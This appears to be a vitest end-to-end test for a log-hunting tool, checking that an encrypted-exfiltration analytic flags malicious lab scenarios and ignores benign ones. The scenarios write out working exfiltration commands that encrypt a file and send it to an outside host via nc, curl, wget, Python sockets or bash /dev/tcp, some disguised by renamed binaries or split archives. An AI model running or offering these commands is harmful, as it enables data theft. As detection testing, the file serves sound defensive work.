/* oxlint-disable vitest/no-disabled-tests, vitest/no-conditional-tests -- skipped, loudly, where no laboratory can be */
/** AN1390 end to end: the true auditd, the true tools, true connections, true findings. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG } from '../../src/config/default-config.ts';
import { huntSettings } from '../../src/config/hunt-settings.ts';
import type { HuntResult } from '../../src/outputs/hunt-result.ts';
import { hunt } from '../../src/run/hunt.ts';
import { isAtLeast } from '../acceptance/hunt-label.ts';
import { Laboratory, laboratoryObstacle, OUTSIDE } from './laboratory.ts';

const MAKE = 'head -c 20000 /dev/urandom | base64 > finance.csv\n';
const GPG = 'gpg --homedir "$PWD/gnupg" --batch --pinentry-mode loopback --passphrase x';
const HOME = 'mkdir -p gnupg; chmod 700 gnupg\n';

interface Scenario {
  readonly name: string;
  readonly port: number;
  readonly sender: RegExp;
  readonly script: string;
}

const MALICIOUS: readonly Scenario[] = [
  {
    name: 'pipe to nc',
    port: 9001,
    sender: /nc/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv | nc -w 2 ${OUTSIDE} 9001`,
  },
  {
    name: 'file, then curl',
    port: 9002,
    sender: /curl$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out out.bin; curl -s -m 5 -T out.bin http://${OUTSIDE}:9002/`,
  },
  {
    name: 'gpg, then wget from another shell',
    port: 9003,
    sender: /wget$/,
    script: `${HOME}${GPG} -o notes.gpg -c finance.csv\nsetsid bash -c 'wget -q -O /dev/null --post-file="$PWD/notes.gpg" http://${OUTSIDE}:9003/'`,
  },
  {
    name: 'python starts openssl and sends itself',
    port: 9004,
    sender: /python3/,
    script: `cat > send.py <<'END'
import subprocess, socket
sealed = subprocess.run(['openssl', 'enc', '-aes-256-ctr', '-k', 'x', '-in', 'finance.csv'], capture_output=True).stdout
s = socket.create_connection(('${OUTSIDE}', 9004)); s.sendall(sealed); s.close()
END
python3 send.py`,
  },
  {
    name: 'socket opened by the shell',
    port: 9005,
    sender: /bash$/,
    script: `exec 3<>/dev/tcp/${OUTSIDE}/9005\nopenssl enc -aes-256-cbc -k x -in finance.csv >&3\nexec 3>&-`,
  },
  {
    name: 'tools under other names',
    port: 9006,
    sender: /updated$/,
    script: `cp "$(command -v openssl)" ./fontcache; cp "$(command -v nc.openbsd || command -v nc)" ./updated\n./fontcache enc -aes-256-cbc -k x -in finance.csv | ./updated -w 2 ${OUTSIDE} 9006`,
  },
  {
    name: 'in pieces',
    port: 9007,
    sender: /curl$/,
    script: `7z a -pSecret -mhe=on big.7z finance.csv\nsplit -b 6000 big.7z part.\nfor f in part.*; do curl -s -m 5 -T "$f" http://${OUTSIDE}:9007/; done`,
  },
  {
    name: 'shell connects, then becomes cat',
    port: 9008,
    sender: /bash$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out cat.bin\ncat cat.bin > /dev/tcp/${OUTSIDE}/9008`,
  },
  {
    name: 'volumes of an archive',
    port: 9009,
    sender: /curl$/,
    script: `7z a -pSecret -v6k vol.7z finance.csv\nfor f in vol.7z.0*; do curl -s -m 5 -T "$f" http://${OUTSIDE}:9009/; done`,
  },
  {
    name: 'renamed on the way, typed words beside it',
    port: 9014,
    sender: /curl$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out mv.bin; mv mv.bin holiday.jpg\ncurl -s -m 5 -F f=@holiday.jpg http://${OUTSIDE}:9014/; curl -s -m 5 -d '{"status":"ok"}' http://${OUTSIDE}:9015/`,
  },
];

const BENIGN: readonly Scenario[] = [
  {
    name: 'encrypts here, fetches there',
    port: 9010,
    sender: /curl$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out kept.bin; curl -s -m 5 -o page.html http://${OUTSIDE}:9010/`,
  },
  {
    name: 'sends another file',
    port: 9011,
    sender: /curl$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out kept.bin; date > log.txt; curl -s -m 5 -T log.txt http://${OUTSIDE}:9011/`,
  },
  {
    name: 'looks at ports and reports a status',
    port: 9016,
    sender: /curl$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv -out kept.bin; nc -z -w 1 ${OUTSIDE} 9016; curl -s -m 5 -d '{"status":"ok"}' http://${OUTSIDE}:9016/`,
  },
  {
    name: 'a word beside an upload',
    port: 9015,
    sender: /curl$/,
    script: 'true',
  },
  {
    name: 'pipes here, uploads another archive there',
    port: 9017,
    sender: /curl$/,
    script: `openssl enc -aes-256-cbc -k x -in finance.csv | nc -w 2 ${OUTSIDE} 9018; 7z a other.7z finance.csv; curl -s -m 5 -T other.7z http://${OUTSIDE}:9017/`,
  },
  {
    name: 'packs without a password',
    port: 9012,
    sender: /curl$/,
    script: `7z a plain.7z finance.csv; curl -s -m 5 -T plain.7z http://${OUTSIDE}:9012/`,
  },
  {
    name: 'hashes and encodes',
    port: 9013,
    sender: /curl$/,
    script: `openssl dgst -sha256 finance.csv; openssl enc -base64 -in finance.csv -out f.b64; curl -s -m 5 -T f.b64 http://${OUTSIDE}:9013/`,
  },
];

const obstacle = laboratoryObstacle();
// oxlint-disable-next-line no-console -- the skip must be seen in the run's own output
if (obstacle !== undefined) console.warn(`SKIPPED: the Linux laboratory (AN1390 end to end): ${obstacle}`);

describe.skipIf(obstacle !== undefined)('the Linux laboratory', () => {
  const laboratory = new Laboratory();
  let result: HuntResult;

  beforeAll(async () => {
    await laboratory.start();
    for (const { name, script } of [...MALICIOUS, ...BENIGN])
      laboratory.act(name.replaceAll(/[^a-z0-9]+/g, '-'), `${MAKE}${script}\n`);
    const settings = huntSettings(DEFAULT_CONFIG, {
      internal: [],
      external: [],
      since: undefined,
      until: undefined,
      host: 'lab',
    });
    result = await hunt({ paths: [await laboratory.settled()], settings, showSecrets: false });
  }, 120_000);

  afterAll(() => laboratory.stop());

  const at = (port: number): HuntResult['findings'] =>
    result.findings.filter(({ egress }) => egress.port === port);

  it.each(MALICIOUS)('finds one act: $name', ({ port, sender }) => {
    const found = at(port);
    expect(found.map(({ analytic }) => analytic)).toEqual(['AN1390']);
    expect(found[0]?.process.image).toMatch(sender);
    expect(found[0]?.level, found[0]?.title).toSatisfy((level) => level === 'high' || level === 'critical');
  });

  it.each(BENIGN)('finds nothing at medium or above: $name', ({ port }) => {
    expect(
      at(port)
        .filter(({ level }) => isAtLeast(level, 'medium'))
        .map(({ title }) => title),
    ).toEqual([]);
  });
});
